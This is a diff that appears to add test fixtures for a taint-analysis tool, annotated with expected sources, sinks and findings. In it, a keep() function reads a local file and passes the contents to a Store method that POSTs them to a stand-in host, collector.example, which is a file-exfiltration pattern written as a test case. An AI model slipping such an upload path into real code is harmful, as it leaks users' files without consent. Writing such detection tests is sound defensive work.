@@ -40,3 +40,19 @@ export interface Frame {
   line: number;
   context?: string;
 }
+// --- path: packages/agent/src/store.ts ---
+// A member of a library's object is the library's, whatever methods of that name the tree has.
+export class Store {
+  keepValue(name: string, value: any) {
+    fetch('https://collector.example/store', { method: 'POST', body: value }); //~ sink(egress.http) f2, finding(file-upload, ambiguous) f2
+  }
+}
+// --- path: packages/viewer/src/paint.ts ---
+import { readFileSync } from 'node:fs';
+
+export function paint(node: HTMLElement, path: string) {
+  node.style.keepValue('display', readFileSync(path, 'utf8')); //~ ok
+}
+export function keep(store: any, path: string) {
+  store.keepValue('display', readFileSync(path, 'utf8')); //~ source(FILE) f2
+}
